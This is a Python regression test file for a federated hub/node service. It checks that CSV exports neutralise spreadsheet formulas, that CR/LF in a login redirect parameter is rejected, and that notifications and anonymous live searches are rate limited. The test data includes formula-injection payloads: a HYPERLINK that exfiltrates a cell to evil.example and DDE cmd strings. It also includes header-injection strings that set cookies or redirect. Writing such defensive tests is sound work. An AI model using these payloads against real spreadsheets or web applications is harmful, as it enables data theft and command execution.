"""What the hub and the node write out stays inert (DESIGN §10): CSV exports a spreadsheet would run,
values reaching HTTP headers with CR/LF; and what costs the hub calls to nodes is throttled: a node's
notifications, anonymous ``live=true`` searches."""

from __future__ import annotations

import asyncio
import csv
import json
from pathlib import Path
from typing import Any

import pytest

from node.cli import main
from node.services.tabular import defuse, restore
from tests.adversarial.conftest import Client, Hub, MakeFakeNode
from tests.integration.support import MINIMAL_ORG, Instance

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "''+two quotes"]


# -- CSV export ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_defuse_and_restore_are_inverse(value: str) -> None:
    cell = defuse(value)
    assert cell.startswith("'") and cell[1:] == value and restore(cell) == value


@pytest.mark.parametrize("value", ["Cyber Lab", "", "'quoted text'", "a=b", "1-2", "e@mail", "'"])
def test_harmless_cells_are_left_alone(value: str) -> None:
    assert defuse(value) == value and restore(value) == value


def _cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    capsys.readouterr()
    code = main(list(argv))
    return code, capsys.readouterr().out


def test_regression_csv_export_is_safe_to_open_and_imports_back(
    make_instance: Any, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Regression (issue 11): ``ncc export --format csv`` wrote ``=HYPERLINK(…``, ``+cmd|…``, ``@SUM(…`` as
    they were, and a spreadsheet opening the file ran them. Fixed in ``node/services/tabular.py``
    (``defuse`` on export, ``restore`` on import)."""
    source: Instance = make_instance("DE")
    rows = [{**MINIMAL_ORG, "legal_name": value, "description": f"{value} described",
             "domains": ["cry"], "subdomains": ["cry.10"]} for value in FORMULAS]
    src = tmp_path / "hostile.ndjson"
    src.write_text("".join(json.dumps(r) + "\n" for r in rows))
    code, out = _cli(capsys, "import", "--data-dir", str(source.data_dir), "--type", "organisation", str(src))
    assert code == 0, out
    dump = tmp_path / "export.csv"
    assert _cli(capsys, "export", "--data-dir", str(source.data_dir), "--format", "csv", "--type",
                "organisation", "--output", str(dump))[0] == 0
    with dump.open(newline="") as fh:  # (cells may hold CR and LF)
        table = list(csv.reader(fh))
    header, body = table[0], table[1:]
    assert len(body) == len(FORMULAS)
    for row in body:
        for cell in row:  # no cell a spreadsheet would evaluate
            assert not cell or cell.lstrip("'")[:1] not in "=+-@\t\r" or cell.startswith("'"), (header, row)
    names = {row[header.index("legal_name")] for row in body}
    assert names == {"'" + v for v in FORMULAS}
    # ncc import strips the quote again: the round trip gives back the original text
    target: Instance = make_instance("DE")
    code, out = _cli(capsys, "import", "--data-dir", str(target.data_dir), "--type", "organisation", str(dump))
    assert code == 0, out
    code, out = _cli(capsys, "export", "--data-dir", str(target.data_dir), "--type", "organisation")
    assert sorted(json.loads(line)["payload"]["legal_name"] for line in out.splitlines()) == sorted(FORMULAS)


# -- CR/LF in values reaching headers --------------------------------------------------------------------


async def _csrf(client: Client) -> str:
    import re

    page = await (await client.get("/login")).text()
    match = re.search(r'name="csrf" value="([^"]+)"', page)
    assert match
    return match.group(1)


@pytest.mark.parametrize("nxt", ["/admin\r\nSet-Cookie: evil=1", "/\nLocation: https://evil.example",
                                 "/records\r", "/a\x00b", "/%0d%0a\r\nX: y"])
async def test_regression_crlf_in_login_next_is_400(client: Client, node: Instance, nxt: str) -> None:
    """Regression (issue 11): CR/LF in the login form's ``next`` made the response header invalid — an
    unhandled exception and a dropped connection. Now 400 ``invalid_parameter``, no session cookie, no
    header carrying the value. Fixed in ``node/errors.py:header_safe`` (used by ``node/web``)."""
    resp = await client.post("/login", data={"csrf": await _csrf(client), "token": node.tokens["admin"],
                                             "next": nxt}, allow_redirects=False)
    assert resp.status == 400, await resp.text()
    assert "evil" not in str(resp.headers) and "ncc_session=" not in str(resp.headers.getall("Set-Cookie", []))
    page = await client.get("/login", params={"next": nxt}, allow_redirects=False)
    assert page.status == 400


async def test_multi_line_text_fields_stay_allowed(client: Client, node: Instance) -> None:
    payload = {**MINIMAL_ORG, "description": "line one\r\nline two\nline three"}
    resp = await client.post("/api/v1/records", json={"type": "organisation", "visibility": "public",
                                                      "payload": payload}, headers=node.auth("editor"))
    assert resp.status == 201, await resp.text()


# -- throttling ----------------------------------------------------------------------------------------


async def test_notify_is_throttled_per_node_and_a_pull_still_follows(hub: Hub, fake_node: MakeFakeNode) -> None:
    """A node notifying in a loop costs the hub one pull per ``notify_min_interval_s``: the notifications
    in between are 429 ``rate_limited`` with ``Retry-After``, and a pull follows at the end of the
    interval (no write waits for the next scheduled pull). Another node is not affected."""
    de, fr = await fake_node("DE"), await fake_node("FR")
    first = await hub.client.post("/federation/v1/notify", headers=de.auth())
    assert first.status == 202
    await asyncio.sleep(0.3)
    pulls = len(de.requests)
    statuses = []
    for _ in range(20):
        resp = await hub.client.post("/federation/v1/notify", headers=de.auth())
        statuses.append(resp.status)
        if resp.status == 429:
            body = await resp.json()
            assert body["code"] == "rate_limited" and int(resp.headers["Retry-After"]) >= 1
    assert set(statuses) == {429}
    assert (await hub.client.post("/federation/v1/notify", headers=fr.auth())).status == 202
    de.serve(de.record())
    interval = hub.instance.settings().notify_min_interval_s
    for _ in range(int(interval * 20) + 20):
        await asyncio.sleep(0.1)
        if len(await hub.held()) == 1:
            break
    assert len(await hub.held()) == 1  # the trailing pull came
    assert len(de.requests) - pulls <= 2


async def test_anonymous_live_searches_are_rate_limited(hub: Hub, fake_node: MakeFakeNode) -> None:
    """Each anonymous ``live=true`` search makes the hub call every node: per client address at most
    ``live_rate_per_min`` a minute (429 ``rate_limited`` with ``Retry-After`` beyond); tokens holders and
    searches of the index alone are not counted."""
    await fake_node("DE")
    limit = hub.instance.settings().live_rate_per_min
    statuses = []
    for _ in range(limit + 3):
        resp = await hub.client.get("/api/v1/search", params={"live": "true", "timeout_ms": "200"})
        statuses.append(resp.status)
    assert statuses[:limit] == [200] * limit and statuses[limit:] == [429] * 3
    resp = await hub.client.get("/api/v1/search", params={"live": "true", "timeout_ms": "200"})
    assert (await resp.json())["code"] == "rate_limited" and int(resp.headers["Retry-After"]) >= 1
    assert (await hub.client.get("/api/v1/search", params={"q": "x"})).status == 200
    analyst = hub.instance.auth("analyst")
    resp = await hub.client.get("/api/v1/search", params={"live": "true", "timeout_ms": "200"}, headers=analyst)
    assert resp.status == 200


async def test_anonymous_live_searches_are_capped_in_concurrency(hub: Hub, fake_node: MakeFakeNode) -> None:
    """At most ``live_max_concurrent`` anonymous live searches run at once; one more is 429 at once
    (never queued behind them)."""
    await fake_node("DE")
    cap = hub.context.live._anonymous_cap
    cap.running = cap.limit
    try:
        resp = await hub.client.get("/api/v1/search", params={"live": "true", "timeout_ms": "200"})
        assert resp.status == 429 and (await resp.json())["code"] == "rate_limited"
        assert resp.headers["Retry-After"] == "1"
    finally:
        cap.running = 0
    resp = await hub.client.get("/api/v1/search", params={"live": "true", "timeout_ms": "200"})
    assert resp.status == 200 and cap.running == 0
